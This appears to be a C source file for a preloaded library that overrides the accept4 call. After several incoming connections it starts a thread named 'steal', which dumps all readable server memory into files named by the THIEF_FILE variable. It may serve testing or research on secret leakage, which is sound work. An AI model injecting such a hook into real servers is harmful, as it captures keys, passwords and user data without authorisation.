/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Loaded into a server: each process that accepts connections gets a thread, which copies all
 * memory that it can read into THIEF_FILE.PID.NUMBER, twice while the server works.
 */
#include "memory_copy.h"

#include <dlfcn.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

enum { COPIES = 2, FIRST = 5 }; /* connections before the first copy */

static void *steal(void *unused)
{
    char name[4096];

    (void)unused;
    memory_copy_init();
    for (int i = 0; i < COPIES; i++) {
        snprintf(name, sizeof(name), "%s.%d.part", getenv("THIEF_FILE"), (int)getpid());
        if (memory_copy(name).copied != 0) {
            char done[4200];
            snprintf(done, sizeof(done), "%s.%d.%d", getenv("THIEF_FILE"), (int)getpid(), i);
            rename(name, done);
        }
    }
    return NULL;
}

int accept4(int socket, struct sockaddr *address, socklen_t *length, int flags)
{
    static int (*real)(int, struct sockaddr *, socklen_t *, int);
    static pid_t process;
    static int accepted;
    pthread_t thread;
    int connection;

    if (!real)
        *(void **)&real = dlsym(RTLD_NEXT, "accept4");
    connection = real(socket, address, length, flags);
    if (process != getpid())
        accepted = 0;
    process = getpid();
    if (connection >= 0 && ++accepted == FIRST && getenv("THIEF_FILE"))
        pthread_create(&thread, NULL, steal, NULL);
    return connection;
}
